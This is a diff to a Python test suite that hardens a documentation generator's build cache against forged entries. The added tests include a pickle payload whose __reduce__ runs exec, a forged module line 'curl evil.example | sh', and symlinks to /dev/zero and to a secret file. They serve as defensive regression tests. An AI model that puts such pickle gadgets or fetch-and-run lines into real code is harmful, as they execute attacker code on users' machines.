@@ -20,6 +20,7 @@ from docgen.cache import Cache, default_dir, digest
 from docgen.model import PageDecls
 
 REPO_ROOT = Path(__file__).resolve().parent.parent
+SECRET = b"test-secret-0123456789"
 DOCS_SRC = REPO_ROOT / "docs-src"
 # Enough real pages to exceed the pool thresholds (16 pages / 16 modules).
 CORPUS_PAGES = (
@@ -67,7 +68,7 @@ def corpus_docs(tmp_path: Path, corpus_v1_resources: Path) -> Path:
 
 
 def test_put_then_get_round_trips_and_a_missing_key_is_a_miss(tmp_path: Path) -> None:
-    cache = Cache(tmp_path / "c")
+    cache = Cache(tmp_path / "c", SECRET)
     assert cache.get("k", "ab" * 32) is None
     cache.put("k", "ab" * 32, b"payload")
     assert cache.get("k", "ab" * 32) == b"payload"
@@ -77,7 +78,7 @@ def test_put_then_get_round_trips_and_a_missing_key_is_a_miss(tmp_path: Path) ->
 
 
 def test_the_folder_marks_itself_as_an_ignorable_cache(tmp_path: Path) -> None:
-    cache = Cache(tmp_path / "c")
+    cache = Cache(tmp_path / "c", SECRET)
     cache.put("k", "ab" * 32, b"x")
     assert (tmp_path / "c" / ".gitignore").read_text() == "*\n"
     assert (tmp_path / "c" / "CACHEDIR.TAG").read_text().startswith("Signature: 8a477f597d28d172")
@@ -94,26 +95,29 @@ def test_the_folder_marks_itself_as_an_ignorable_cache(tmp_path: Path) -> None:
     ],
 )
 def test_a_damaged_entry_is_a_miss_not_a_crash(tmp_path: Path, damage) -> None:  # type: ignore[no-untyped-def]
-    cache = Cache(tmp_path / "c")
+    cache = Cache(tmp_path / "c", SECRET)
     key = "ef" * 32
     cache.put("k", key, b"some payload bytes")
     entry = next(p for p in (tmp_path / "c" / "k").rglob("*") if p.is_file())
     entry.write_bytes(damage(entry.read_bytes()))
     assert cache.get("k", key) is None
     assert cache.get_text("k", key) is None
-    assert cache.get_object("k", key) is None
+    assert cache.get_data("k", key) is None
 
 
-def test_an_entry_that_does_not_unpickle_is_a_miss(tmp_path: Path) -> None:
-    cache = Cache(tmp_path / "c")
-    cache.put("k", "ab" * 32, b"not a pickle")  # intact entry, bad payload
-    assert cache.get_object("k", "ab" * 32) is None
+def test_an_entry_that_is_not_plain_data_is_a_miss(tmp_path: Path) -> None:
+    cache = Cache(tmp_path / "c", SECRET)
+    cache.put("k", "ab" * 32, b"not marshal data")  # intact entry, bad payload
+    assert cache.get_data("k", "ab" * 32) is None
+    cache.put_data("k", "cd" * 32, ("a", 1))  # plain data, but not a PageDecls
+    assert cache.get_as("k", "cd" * 32, PageDecls) is None
+    assert (cache.hits, cache.misses) == (0, 2)
 
 
 def test_writes_are_atomic_and_leave_no_temporary_files(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    cache = Cache(tmp_path / "c")
+    cache = Cache(tmp_path / "c", SECRET)
     key = "12" * 32
     cache.put("k", key, b"old")
 
@@ -131,7 +135,7 @@ def test_writes_are_atomic_and_leave_no_temporary_files(
 def test_an_unwritable_cache_location_is_ignored(tmp_path: Path) -> None:
     blocker = tmp_path / "file"
     blocker.write_text("not a folder")
-    cache = Cache(blocker / "cache")  # cannot be created: a file is in the way
+    cache = Cache(blocker / "cache", SECRET)  # cannot be created: a file is in the way
     cache.put("k", "ab" * 32, b"x")
     assert cache.get("k", "ab" * 32) is None
 
@@ -165,11 +169,9 @@ def test_a_library_version_comes_from_the_first_dist_info_on_the_path(
         cache_mod.dist_version.cache_clear()
 
 
-def test_default_location_is_beside_the_output_unless_the_environment_says(
+def test_the_environment_chooses_the_location(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.delenv("DOCGEN_CACHE_DIR", raising=False)
-    assert default_dir(tmp_path / "generated") == tmp_path / ".docgen-cache"
     monkeypatch.setenv("DOCGEN_CACHE_DIR", str(tmp_path / "elsewhere"))
     assert default_dir(tmp_path / "generated") == tmp_path / "elsewhere"
 
@@ -349,7 +351,7 @@ def test_pages_decls_from_the_cache_are_what_extraction_gives(
     corpus_docs: Path, tmp_path: Path
 ) -> None:
     sources = sorted(corpus_docs.glob("*.md"))
-    cache = Cache(tmp_path / "cache")
+    cache = Cache(tmp_path / "cache", SECRET)
     model_cold = pipeline.load_model([corpus_docs], cache=cache, jobs=1)
     assert cache.hits == 0
     model_warm = pipeline.load_model([corpus_docs], cache=cache, jobs=1)
@@ -401,7 +403,7 @@ def test_only_the_most_recent_whole_builds_are_kept(
 
 
 def test_prune_keeps_what_was_used_last(tmp_path: Path) -> None:
-    cache = Cache(tmp_path / "c")
+    cache = Cache(tmp_path / "c", SECRET)
     keys = [f"{i:02d}" * 32 for i in range(5)]
     for i, key in enumerate(keys):
         cache.put("k", key, b"x")
@@ -676,3 +678,373 @@ def test_workers_never_render_with_the_templates_of_an_earlier_build(
     assert build(corpus_docs, tmp_path / "second", *opts, "--jobs", "2", **kw) == 0
     text = (tmp_path / "second/graph_models/drive_item.py").read_text(encoding="utf-8")
     assert text.startswith("# added later\n")
+
+
+# --- a cache folder written by someone else -----------------------------------
+#
+# Whoever can write to the cache folder (another local user, a CI cache restored
+# from another branch) must not be able to run code, change the output or hang
+# the build. Each test forges entries, builds again with the cache and compares
+# with a `--no-cache` build made first.
+
+
+def _entries(cache_dir: Path) -> list[Path]:
+    """Every entry file (named by its 64-hex-digit key)."""
+    return sorted(p for p in cache_dir.rglob("*") if p.is_file() and len(p.name) == 64)
+
+
+def _reference(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "unused-cache"}
+    assert build(DOCS_SRC, tmp_path / "plain", "--no-cache", "--jobs", "1", **kw) == 0
+    return read_tree(tmp_path / "plain")
+
+
+class _RunsCode:
+    """Unpickling this writes `marker`: proof that a payload would run code."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))
+
+
+def test_pickle_payloads_with_recomputed_digests_run_no_code(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import hashlib
+    import hmac
+    import pickle
+
+    expected = _reference(tmp_path, monkeypatch)
+    cache_dir = tmp_path / "cache"
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    marker = tmp_path / "marker"
+    payload = pickle.dumps(_RunsCode(marker))
+    pickle.loads(payload)  # the payload is live: loading it runs code ...
+    assert marker.read_text() == "ran"
+    marker.unlink()  # ... so a marker after the build would mean the cache ran it
+
+    entries = _entries(cache_dir)
+    assert {p.relative_to(cache_dir).parts[0] for p in entries} >= {"page", "build", "module"}
+    for i, entry in enumerate(entries):
+        kind, key = entry.relative_to(cache_dir).parts[0], entry.name
+        # The old format (a digest anyone can recompute), and the new one with a MAC
+        # under a key the forger holds (they cannot read the user's).
+        forged_mac = hmac.new(
+            b"the forger's own key",
+            b"DGC2" + f"{len(kind)}:{kind}64:{key}".encode() + payload,
+            hashlib.sha256,
+        ).digest()
+        old = b"DGC1" + hashlib.sha256(payload).digest() + payload
+        entry.write_bytes(old if i % 2 else b"DGC2" + forged_mac + payload)
+    shutil.rmtree(tmp_path / "out")
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert not marker.exists()
+    assert read_tree(tmp_path / "out") == expected
+    # And the same with the other format on every entry.
+    for entry in _entries(cache_dir):
+        entry.write_bytes(b"DGC1" + hashlib.sha256(payload).digest() + payload)
+    assert build(DOCS_SRC, tmp_path / "out2", **kw) == 0
+    assert not marker.exists()
+    assert read_tree(tmp_path / "out2") == expected
+
+
+def test_forged_text_entries_inject_nothing_and_check_sees_the_injection(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The attack the old cache allowed: forge every module's text, then `check` said
+    "up to date" for a tree holding the injected code, since both came from the cache."""
+    import hashlib
+
+    expected = _reference(tmp_path, monkeypatch)
+    cache_dir = tmp_path / "cache"
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    out = tmp_path / "out"
+    assert build(DOCS_SRC, out, **kw) == 0
+    evil = b"import os\nos.system('curl evil.example | sh')\n"
+    for entry in _entries(cache_dir):
+        entry.write_bytes(b"DGC1" + hashlib.sha256(evil).digest() + evil)
+    module = out / "graph_models" / "depot.py"
+    module.write_bytes(evil)  # what a served forged entry would have written
+    capsys.readouterr()
+    assert cli.main(["check", str(DOCS_SRC), "-o", str(out)]) == 1
+    assert "changed:" in capsys.readouterr().out
+    assert build(DOCS_SRC, out, **kw) == 0
+    assert read_tree(out) == expected
+    assert cli.main(["check", str(DOCS_SRC), "-o", str(out)]) == 0
+
+
+def test_swapped_valid_entries_change_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Entries are bound to their key: a valid entry moved under another key is a miss.
+    Two builds of different docs share the cache, then trade every entry of a kind."""
+    other_docs = tmp_path / "other-docs"
+    shutil.copytree(DOCS_SRC, other_docs)
+    _edit(other_docs / "depot.md", "depot resource type", "warehouse resource type")
+    _edit(other_docs / "depot.md", "microsoft.graph.depot", "microsoft.graph.warehouse")
+    cache_dir = tmp_path / "cache"
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    expected = _reference(tmp_path, monkeypatch)
+    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
+    assert build(other_docs, tmp_path / "b", **kw) == 0
+    assert read_tree(tmp_path / "b") != expected
+
+    by_kind: dict[str, list[Path]] = {}
+    for entry in _entries(cache_dir):
+        by_kind.setdefault(entry.relative_to(cache_dir).parts[0], []).append(entry)
+    assert len(by_kind["build"]) == 2
+    for entries in by_kind.values():  # rotate the contents within each kind
+        contents = [p.read_bytes() for p in entries]
+        for path, data in zip(entries, contents[1:] + contents[:1], strict=True):
+            path.write_bytes(data)
+    shutil.rmtree(tmp_path / "a")
+    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
+    assert read_tree(tmp_path / "a") == expected
+
+
+def test_entries_that_are_not_regular_files_are_skipped_without_hanging(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """FIFOs (opening one for reading blocks until a writer comes), links to /dev/zero
+    (endless), to a file outside the cache and to another valid entry: all misses.
+    The build runs in a subprocess with a timeout, so a hang fails the test."""
+    from tests.cli_run import docgen
+
+    expected = _reference(tmp_path, monkeypatch)
+    cache_dir = tmp_path / "cache"
+    monkeypatch.setenv("DOCGEN_CACHE_DIR", str(cache_dir))
+    assert docgen("build", DOCS_SRC, "-o", tmp_path / "out", cwd=tmp_path).returncode == 0
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOKEN=hunter2\n")
+    entries = _entries(cache_dir)
+    assert len(entries) > 8
+    targets = [Path("/dev/zero"), secret]
+    contents = [p.read_bytes() for p in entries]
+    for i, entry in enumerate(entries):
+        valid = contents[i - 1]
+        entry.unlink()
+        if i % 4 == 0:
+            os.mkfifo(entry)
+        elif i % 4 == 3:
+            other = entry.with_name(entry.name + ".moved")  # a valid entry, other key
+            other.write_bytes(valid)
+            entry.symlink_to(other)
+        else:
+            entry.symlink_to(targets[i % 2])
+    for command, out in (("build", tmp_path / "out2"), ("check", tmp_path / "out2")):
+        done = docgen(command, DOCS_SRC, "-o", out, "--jobs", "1", cwd=tmp_path, timeout=120)
+        assert done.returncode == 0, done.stderr
+        assert "hunter2" not in done.stdout + done.stderr
+    assert read_tree(tmp_path / "out2") == expected
+    assert secret.read_text() == "TOKEN=hunter2\n"  # links replaced, targets untouched
+    assert all(p.is_file() and not p.is_symlink() for p in entries)  # written afresh
+
+
+# --- the key and the folder ---------------------------------------------------
+
+
+def test_an_entry_is_bound_to_its_kind_key_and_secret(tmp_path: Path) -> None:
+    cache = Cache(tmp_path / "c", SECRET)
+    key, other = "ab" * 32, "cd" * 32
+    cache.put("k", key, b"payload")
+    cache._path("k", other).parent.mkdir(parents=True)
+    shutil.copy(cache._path("k", key), cache._path("k", other))
+    cache._path("j", key).parent.mkdir(parents=True)
+    shutil.copy(cache._path("k", key), cache._path("j", key))
+    assert cache.get("k", key) == b"payload"
+    assert cache.get("k", other) is None  # copied to another key
+    assert cache.get("j", key) is None  # copied to another kind
+    assert Cache(tmp_path / "c", b"another-secret-0123456").get("k", key) is None
+
+
+def test_the_default_cache_folder_is_private_to_the_user(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, private_user_dirs: Path
+) -> None:
+    """Not beside the output (a shared /tmp/out would put it in /tmp): under the
+    user's cache home, mode 0700, with the key in a 0600 file of the config home."""
+    import stat
+
+    monkeypatch.delenv("DOCGEN_CACHE_DIR", raising=False)
+    shared = tmp_path / "shared-tmp"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    out = shared / "out"
+    assert cli.main(["build", str(DOCS_SRC), "-o", str(out)]) == 0
+    assert sorted(p.name for p in shared.iterdir()) == ["out"]
+    folder = default_dir(out)
+    assert private_user_dirs / "cache" / "docgen" in folder.parents
+    assert _entries(folder)  # the build used it
+    for path in (folder, folder.parent, *(p for p in folder.rglob("*") if p.is_dir())):
+        info = path.stat()
+        assert stat.S_IMODE(info.st_mode) == 0o700, path
+        assert info.st_uid == os.getuid()
+    key = private_user_dirs / "config" / "docgen" / "cache-key"
+    assert stat.S_IMODE(key.stat().st_mode) == 0o600
+    assert len(key.read_text().strip()) == 64
+    # Another output folder gets another cache folder.
+    assert default_dir(shared / "other") != folder
+
+
+def test_a_cache_folder_others_can_write_is_not_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    cache_dir = tmp_path / "cache"
+    cache_dir.mkdir()
+    cache_dir.chmod(0o777)
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    expected = _reference(tmp_path, monkeypatch)
+    capsys.readouterr()
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    err = capsys.readouterr().err
+    assert f"docgen: warning: build cache not used: cache folder {cache_dir} is writable" in err
+    assert list(cache_dir.iterdir()) == []
+    assert read_tree(tmp_path / "out") == expected
+
+
+def test_a_key_file_others_can_read_is_not_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "config"
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
+    (config / "docgen").mkdir(parents=True, mode=0o700)
+    key = config / "docgen" / "cache-key"
+    key.write_text("0123456789abcdef0123456789abcdef\n")
+    key.chmod(0o644)
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
+    capsys.readouterr()
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    err = capsys.readouterr().err
+    assert f"build cache not used: {key} is readable or writable by others" in err
+    assert _entries(tmp_path / "cache") == []
+    key.chmod(0o600)
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert "build cache not used" not in capsys.readouterr().err
+    assert _entries(tmp_path / "cache")
+
+
+def test_a_key_from_the_environment_replaces_the_key_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """CI passes its key in; entries written under one key are misses under another."""
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("DOCGEN_CACHE_KEY", "ci-secret-0123456789")
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert not (tmp_path / "config").exists()  # no key file made
+    monkeypatch.setattr(extract_mod, "extract", _boom)
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0  # answered from the cache
+    monkeypatch.setenv("DOCGEN_CACHE_KEY", "another-secret-0123456789")
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 1  # nothing usable: extracts
+    monkeypatch.setenv("DOCGEN_CACHE_KEY", "short")
+    capsys.readouterr()
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 1
+    assert "$DOCGEN_CACHE_KEY is shorter than 16 characters" in capsys.readouterr().err
+
+
+def test_without_a_home_folder_the_build_runs_without_the_cache(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def no_home() -> Path:
+        raise RuntimeError("Could not determine home directory.")
+
+    monkeypatch.delenv("XDG_CONFIG_HOME")
+    monkeypatch.setattr(Path, "home", no_home)
+    monkeypatch.chdir(tmp_path)
+    expected = _reference(tmp_path, monkeypatch)
+    capsys.readouterr()
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert "build cache not used: no home folder to keep it in (set $XDG_CONFIG_HOME)" in (
+        capsys.readouterr().err
+    )
+    assert read_tree(tmp_path / "out") == expected
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "plain"]
+
+
+def test_model_data_round_trips_and_rejects_what_it_did_not_write() -> None:
+    from docgen.cache import from_data, to_data
+    from docgen.model import Diagnostic, Model, Property, TypeDef
+
+    prop = Property("a", "a", "Edm.String", False, False, None, True, "d", 3, enum="ns.e")
+    t = TypeDef("x", "ns", "complex", "x.md", 1, "", "X", "x", key=("id",), properties=(prop,))
+    model = Model((t,), (Diagnostic("x.md", 1, 2, "warning", "DG100", "m"),))
+    data = to_data(model)
+    assert from_data(Model, data) == model
+    for bad in (
+        (data[0],),  # a field missing
+        ((data[0][0][:-1],), data[1]),  # a TypeDef with a field missing
+        (data[0], ((["x.md"], 1, 2, "warning", "DG100", "m"),)),  # a list where a str goes
+        [data[0], data[1]],  # a list where a tuple goes
+    ):
+        with pytest.raises((TypeError, ValueError)):
+            from_data(Model, bad)
+
+
+_KILLED_BUILD = """
+import os, sys, time
+from pathlib import Path
+from docgen import cli, resolve
+
+def stop(decls):
+    # The pool has extracted the pages and been given warm-up work: report the
+    # workers' pids, then wait here to be killed.
+    me = os.getpid()
+    kids = []
+    for task in Path(f"/proc/{me}/task").iterdir():
+        kids += (task / "children").read_text().split()
+    print(" ".join(kids), flush=True)
+    time.sleep(600)
+
+resolve.resolve = stop
+cli.main(["build", sys.argv[1], "-o", sys.argv[2], "--no-cache", "--jobs", "2"])
+"""
+
+
+def _alive(pid: int) -> bool:
+    """Running (not a zombie awaiting its reaper)."""
+    try:
+        stat_line = Path(f"/proc/{pid}/stat").read_text()
+    except OSError:
+        return False
+    return stat_line.rpartition(")")[2].split()[0] != "Z"
+
+
+@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="finds workers in /proc")
+def test_workers_exit_when_the_main_process_is_killed(tmp_path: Path) -> None:
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    from tests.test_diff import page
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    for i in range(3 * pipeline.MIN_PARALLEL_PAGES):  # enough pages for the pool
+        (docs / f"thing{i}.md").write_text(page(f"thing{i}", [("name", "String")]))
+    main = subprocess.Popen(
+        [sys.executable, "-c", _KILLED_BUILD, str(docs), str(tmp_path / "out")],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    workers: list[int] = []
+    try:
+        assert main.stdout is not None
+        workers += [int(pid) for pid in main.stdout.readline().split()]
+        assert len(workers) == 2, workers
+        assert all(_alive(pid) for pid in workers)
+        main.send_signal(signal.SIGKILL)
+        main.wait(timeout=30)
+        deadline = time.monotonic() + 10
+        while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert not any(_alive(pid) for pid in workers), "workers outlived their parent"
+    finally:
+        main.kill()
+        main.wait(timeout=30)
+        for pid in workers:
+            if _alive(pid):  # the test failed: leave no orphans behind
+                os.kill(pid, signal.SIGKILL)
